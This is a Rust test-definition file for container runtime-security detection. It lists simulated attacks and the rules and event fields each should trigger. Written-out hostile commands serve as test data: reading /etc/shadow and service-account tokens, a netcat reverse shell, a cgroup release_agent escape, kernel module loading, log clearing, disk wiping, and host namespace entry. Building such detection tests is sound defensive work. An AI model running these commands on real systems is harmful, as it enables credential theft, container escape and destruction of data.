//! Attacks in containers: what is done, which rules report it, with what fields. What raises nothing is
//! a near-miss.
//!
//! Paths before `cat` and `mknod` keep busybox's shell from doing their work itself.

use crate::attack::{Attack, attack};
use crate::containers::BY_CONTAINERD;

/// A container as `docker run` makes it.
pub const PLAIN: &str = "plain";
/// A container with power over the host, and the daemon's network.
pub const STRONG: &str = "strong";
/// How it is started. `--privileged` is for machines that have every capability themselves.
pub const STRONG_OPTIONS: &[&str] = &[
    "--cap-add=SYS_ADMIN",
    "--cap-add=SYS_MODULE",
    "--security-opt=seccomp=unconfined",
    "--security-opt=apparmor=unconfined",
    "--network=host",
];
pub const PLAIN_OPTIONS: &[&str] = &["--network=none"];
/// The addresses of the daemon's network.
pub const ADDRESSES: &[&str] = &["169.254.169.254", "203.0.113.7", "10.96.0.1"];

/// The start of the plain container, which raises nothing.
pub fn plain_start() -> Attack {
    attack("run-plain", "").inside(PLAIN)
}

/// The start of the strong one.
pub fn strong_start() -> Attack {
    attack("run-strong", "").inside(STRONG).raises(
        &[],
        &["Container started with power over the host"],
        &[
            ("proc.name", "sleep"),
            ("proc.exepath", "/bin/busybox"),
            ("proc.vpid", "1"),
            ("thread.cap_effective", "*CAP_SYS_ADMIN*"),
        ],
    )
}

/// What is done in a container that containerd runs without Docker.
pub fn by_containerd() -> Attack {
    attack("by-containerd", "/bin/cat /etc/shadow; cp $A /tmp/x; /tmp/x nothing")
        .inside(BY_CONTAINERD)
        .raises(
            &["Read sensitive file untrusted"],
            &["Password hashes read"],
            &[("fd.name", "/etc/shadow"), ("proc.cmdline", "cat /etc/shadow")],
        )
        .raises(
            &["Drop and execute new binary in container"],
            &["Program that is not of the image run in container"],
            &[("proc.exepath", "/tmp/x")],
        )
}

/// What is done in Docker's containers.
pub fn attacks() -> Vec<Attack> {
    let mut all = official();
    all.extend(ours());
    all
}

fn official() -> Vec<Attack> {
    vec![
        attack("c-shadow", "/bin/cat /etc/shadow; /bin/cat /etc/passwd").inside(PLAIN).raises(
            &["Read sensitive file untrusted"],
            &["Password hashes read"],
            &[
                ("fd.name", "/etc/shadow"),
                ("proc.name", "cat"),
                ("proc.exepath", "/bin/busybox"),
                ("proc.pname", "sh"),
                ("proc.tty", "0"),
            ],
        ),
        attack("c-terminal", "true; true").at_terminal_inside(PLAIN).raises(
            &["Terminal shell in container"],
            &["Shell at a terminal in container"],
            &[("proc.cmdline", "sh -c true; true"), ("proc.tty", "348*"), ("evt.type", "execve")],
        ),
        attack("c-netcat", "$F/nc -e /bin/sh 127.0.0.1 9; $F/nc -z 127.0.0.1 9")
            .inside(PLAIN)
            .raises(
                &["Netcat Remote Code Execution in Container"],
                &["Netcat hands a program to the network"],
                &[("proc.cmdline", "nc -e /bin/sh 127.0.0.1 9")],
            ),
        attack("c-packet-socket", "$A packet-socket").inside(PLAIN).raises(
            &["Packet socket created in container"],
            &["Packet socket opened in container"],
            &[("evt.type", "socket"), ("evt.arg.domain", "AF_PACKET")],
        ),
        attack("c-reverse-shell", "$A reverse-shell 14445")
            .inside(PLAIN)
            .raises(
                &["Redirect STDOUT/STDIN to Network Connection in Container"],
                &["Standard stream moved onto a network connection"],
                &[("evt.rawres", "0"), ("fd.name", "127.0.0.1:*->127.0.0.1:14445")],
            )
            .raises(
                &["Redirect STDOUT/STDIN to Network Connection in Container"],
                &["Standard stream moved onto a network connection"],
                &[("evt.rawres", "1"), ("fd.sport", "14445")],
            )
            .raises(
                &["Redirect STDOUT/STDIN to Network Connection in Container"],
                &[],
                &[("evt.rawres", "2"), ("fd.sip", "127.0.0.1")],
            )
            .raises(&[], &["Shell on a network connection"], &[("proc.name", "sh")]),
        // The sensors know from a file of hosts whose address this is.
        attack("c-api-server", "$A dial 10.96.0.1 443; $A dial 203.0.113.7 443")
            .inside(STRONG)
            .raises(
                &["Contact K8S API Server From Container"],
                &[],
                &[
                    ("evt.type", "connect"),
                    ("fd.name", "10.96.0.1:*->10.96.0.1:443"),
                    ("fd.sip.name", "kubernetes.default.svc.cluster.local"),
                    ("proc.name", "actor"),
                ],
            ),
        attack("c-connection-aside", "$A aside 14446").inside(PLAIN),
        attack("c-module", "$A load-module")
            .inside(STRONG)
            .raises(
                &["Linux Kernel Module Injection Detected"],
                &["Kernel module loaded from container"],
                &[("evt.type", "init_module"), ("evt.res", "E*")],
            )
            .raises(
                &["Linux Kernel Module Injection Detected"],
                &["Kernel module loaded from container"],
                &[("evt.type", "finit_module"), ("thread.cap_effective", "*CAP_SYS_MODULE*")],
            ),
        attack(
            "c-release-agent",
            "mkdir /tmp/rdma; echo x >/tmp/rdma/release_agent; cat /tmp/rdma/*",
        )
        .inside(STRONG)
        .raises(
            &["Detect release_agent File Container Escapes"],
            &["Kernel switch that runs programs set from container"],
            &[
                ("fd.name", "/tmp/rdma/release_agent"),
                ("thread.cap_effective", "*CAP_SYS_ADMIN*"),
                ("evt.is_open_write", "true"),
            ],
        ),
        // Without the capability it is no way out.
        attack("c-release-agent-plain", "mkdir /tmp/rdma; echo x >/tmp/rdma/release_agent")
            .inside(PLAIN)
            .raises(
                &[],
                &["Kernel switch that runs programs set from container"],
                &[("fd.name", "/tmp/rdma/release_agent")],
            ),
        attack("c-dropped", "cp $A /tmp/dropped; /tmp/dropped nothing; $A nothing")
            .inside(PLAIN)
            .raises(
                &["Drop and execute new binary in container"],
                &["Program that is not of the image run in container"],
                &[
                    ("proc.exepath", "/tmp/dropped"),
                    ("proc.is_exe_upper_layer", "true"),
                    ("evt.arg.flags", "*EXE_UPPER_LAYER*"),
                ],
            ),
        attack("c-memory", "$A from-memory $A nothing").inside(PLAIN).raises(
            &["Fileless execution via memfd_create"],
            &["Program run from memory"],
            &[("proc.is_exe_from_memfd", "true"), ("proc.exepath", "memfd:payload")],
        ),
        attack("c-clear-log", ": >/var/log/syslog; echo x >>/var/log/syslog").inside(PLAIN).raises(
            &["Clear Log Activities"],
            &["Log cleared"],
            &[("fd.name", "/var/log/syslog")],
        ),
        attack("c-mkfs", "$F/mkfs").inside(PLAIN).raises(
            &["Remove Bulk Data from Disk"],
            &["Disk wiped"],
            &[("proc.name", "mkfs")],
        ),
        attack("c-web-shell", "$F/nginx spawn /bin/sh -c 'true; true'").inside(PLAIN).raises(
            &["Run shell untrusted"],
            &["Shell started by a web server"],
            &[("proc.name", "sh"), ("proc.pname", "nginx")],
        ),
    ]
}

fn ours() -> Vec<Attack> {
    vec![
        attack("c-client", "$F/kubectl get pods").inside(PLAIN).raises(
            &[],
            &["Cluster or runtime client run in container"],
            &[("proc.cmdline", "kubectl get pods")],
        ),
        attack("c-package", "$F/apt install netcat; $F/apt list").inside(PLAIN).raises(
            &[],
            &["Package manager run in container"],
            &[("proc.args", "install netcat")],
        ),
        attack("c-token", "/bin/cat /var/run/secrets/kubernetes.io/serviceaccount/token")
            .inside(PLAIN)
            .raises(
                &[],
                &["Service account token read by a tool"],
                &[("fd.name", "/var/run/secrets/kubernetes.io/serviceaccount/token")],
            ),
        attack("c-nsenter", "$F/nsenter -t 1 -m; $F/nsenter -t 77 -m").inside(PLAIN).raises(
            &[],
            &["Namespaces of the host entered"],
            &[("proc.args", "-t 1 -m")],
        ),
        attack("c-setns", "$A join /proc/self/ns/uts").inside(STRONG).raises(
            &[],
            &["Namespaces of the host entered"],
            &[("evt.type", "setns"), ("evt.rawres", "0")],
        ),
        attack("c-disk", "/bin/mknod /tmp/disk b 8 0").inside(PLAIN).raises(
            &[],
            &["Disk of the host opened in container"],
            &[("evt.type", "mknod*"), ("proc.name", "mknod")],
        ),
        attack("c-chroot", "chroot /host /none 2>/dev/null || true; chroot /srv /none || true")
            .inside(PLAIN)
            .raises(
                &[],
                &["Root directory moved to the host"],
                &[("evt.type", "chroot"), ("evt.arg.path", "/host")],
            ),
        attack("c-host-file", "echo x >/host/etc/crontab; echo x >/srv/app/crontab")
            .inside(PLAIN)
            .raises(
                &[],
                &["Host files written from container"],
                &[("fd.name", "/host/etc/crontab")],
            ),
        attack("c-runtime", "$A call /tmp/docker.sock; $A call /tmp/other.sock")
            .inside(PLAIN)
            .raises(
                &[],
                &["Container runtime called from container"],
                &[("evt.type", "connect"), ("fd.name", "*/tmp/docker.sock"), ("fd.type", "unix")],
            ),
        attack("c-copy", "$F/scp x other:").inside(PLAIN).raises(
            &[],
            &["Remote copy or login tool run in container"],
            &[("proc.name", "scp")],
        ),
        attack("c-metadata", "$A dial 169.254.169.254 80; $A dial 203.0.113.7 80")
            .inside(STRONG)
            .raises(
                &[],
                &["Metadata service of the cloud called"],
                &[("fd.sip", "169.254.169.254"), ("fd.sport", "80")],
            ),
        attack("c-restart", "$A restart").inside(STRONG).raises(
            &[],
            &["Machine shut down from container"],
            &[("evt.type", "reboot")],
        ),
        attack("c-reboot", "$F/reboot").inside(PLAIN).raises(
            &[],
            &["Machine shut down from container"],
            &[("proc.name", "reboot")],
        ),
        attack("c-download", "$F/curl -o /tmp/x http://127.0.0.1/").inside(PLAIN).raises(
            &[],
            &["File downloaded into a scratch directory"],
            &[("proc.name", "curl")],
        ),
        attack("c-own-users", "$A own-users").inside(STRONG).raises(
            &[],
            &["User namespace made"],
            &[("evt.type", "unshare")],
        ),
    ]
}
